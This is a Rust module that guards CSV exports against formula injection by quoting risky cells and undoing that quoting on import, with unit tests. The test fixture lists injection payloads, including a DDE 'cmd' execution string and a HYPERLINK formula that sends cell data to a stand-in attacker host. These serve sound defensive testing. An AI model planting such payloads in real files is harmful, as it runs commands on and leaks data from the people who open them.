//! The one way Picket writes CSV: every cell that a spreadsheet could read as a formula is
//! neutralised, and the member import undoes exactly that, so an exported file re-imports
//! unchanged.
//!
//! A spreadsheet runs a cell that starts with `=`, `+`, `-` or `@` as a formula (and some
//! also after a leading tab or carriage return, or the full-width forms of those signs), so a
//! member named `=HYPERLINK(…)` would run when an organiser opens the export. Following
//! OWASP's advice on CSV injection, such a cell is written with a single quote in front:
//! `'=HYPERLINK(…)`, which spreadsheets show as text. A cell that already starts with a quote
//! gets one more, so the rule can be undone without guessing.
//!
//! Phone numbers in international form start with `+` and are quoted too (`'+44 20 7946
//! 0000`): a spreadsheet would otherwise read `+44 20…` as a sum. The import removes one
//! leading quote when the character after it is one this rule quotes, so an exported phone
//! number, name or any other value comes back as it was.

use std::borrow::Cow;

/// Whether a cell starting with `c` must be quoted: a formula sign, a control character a
/// spreadsheet skips before one, their full-width forms, or the quote itself.
fn needs_quote(c: char) -> bool {
    matches!(
        c,
        '=' | '+' | '-' | '@' | '\t' | '\r' | '\n' | '＝' | '＋' | '－' | '＠' | '\''
    )
}

/// `value` as it is safe to write into a CSV cell: with a single quote in front when a
/// spreadsheet could otherwise read it as a formula (see the module's documentation).
pub fn neutralise(value: &str) -> Cow<'_, str> {
    match value.chars().next() {
        Some(c) if needs_quote(c) => Cow::Owned(format!("'{value}")),
        _ => Cow::Borrowed(value),
    }
}

/// A cell read back from a CSV file: the quote [`neutralise`] added, taken off again. A
/// quote followed by anything else is left alone (a name like `'t Hart` typed in a
/// spreadsheet keeps it).
pub fn restore(cell: &str) -> &str {
    match cell.strip_prefix('\'') {
        Some(rest) if rest.chars().next().is_some_and(needs_quote) => rest,
        _ => cell,
    }
}

/// A CSV document written row by row into memory, every cell through [`neutralise`]. The
/// bytes written so far can be taken at any time ([`CsvWriter::take`]), so a large export
/// is sent in pieces and never held whole.
pub struct CsvWriter {
    inner: csv::Writer<Vec<u8>>,
}

impl Default for CsvWriter {
    fn default() -> Self {
        Self::new()
    }
}

impl CsvWriter {
    /// An empty document.
    pub fn new() -> Self {
        Self {
            inner: csv::Writer::from_writer(Vec::new()),
        }
    }

    /// Writes one row.
    pub fn row<I, S>(&mut self, cells: I) -> Result<(), csv::Error>
    where
        I: IntoIterator<Item = S>,
        S: AsRef<str>,
    {
        for cell in cells {
            self.inner
                .write_field(neutralise(cell.as_ref()).as_bytes())?;
        }
        // An empty record after the fields ends the row.
        self.inner.write_record(std::iter::empty::<&[u8]>())
    }

    /// The bytes written since the last call (whole rows only).
    pub fn take(&mut self) -> Result<Vec<u8>, csv::Error> {
        // The csv writer only hands its buffer back whole: swap in a fresh one.
        let full = std::mem::replace(&mut self.inner, csv::Writer::from_writer(Vec::new()));
        full.into_inner().map_err(|e| e.into_error().into())
    }

    /// The whole document, for a small one.
    pub fn finish(mut self) -> Result<Vec<u8>, csv::Error> {
        self.take()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    const FORMULAS: [&str; 10] = [
        "=cmd|' /C calc'!A0",
        "+SUM(1+1)",
        "-2+3",
        "@SUM(A1)",
        "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Click\")",
        "\t=1+1",
        "\r=1+1",
        "\n=1+1",
        "＝1+1",
        "+44 20 7946 0000",
    ];

    #[test]
    fn formula_cells_are_quoted_and_ordinary_ones_are_not() {
        for f in FORMULAS {
            assert_eq!(neutralise(f), format!("'{f}"), "{f:?}");
        }
        for plain in [
            "Ana Lopez",
            "",
            "07700 900123",
            "1 May 2024",
            "a=b",
            "x-y",
            "£12.50",
        ] {
            assert_eq!(neutralise(plain), plain);
        }
    }

    #[test]
    fn restore_undoes_neutralise_exactly() {
        let values = FORMULAS
            .iter()
            .copied()
            .chain(["'t Hart", "''", "'", "'=x", "plain", "", "O'Brien"]);
        for v in values {
            assert_eq!(restore(&neutralise(v)), v, "{v:?}");
        }
        assert_eq!(restore("'t Hart"), "'t Hart", "a quote typed by hand stays");
        assert_eq!(restore("'+44 1"), "+44 1");
    }

    #[test]
    fn the_writer_quotes_every_cell_and_hands_over_rows_in_pieces() {
        let mut w = CsvWriter::new();
        w.row(["name", "phone"]).unwrap();
        let first = w.take().unwrap();
        assert_eq!(first, b"name,phone\n");
        w.row(["=1+1", "+44 1, 2"]).unwrap();
        let rest = w.finish().unwrap();
        assert_eq!(String::from_utf8(rest).unwrap(), "'=1+1,\"'+44 1, 2\"\n");
    }
}
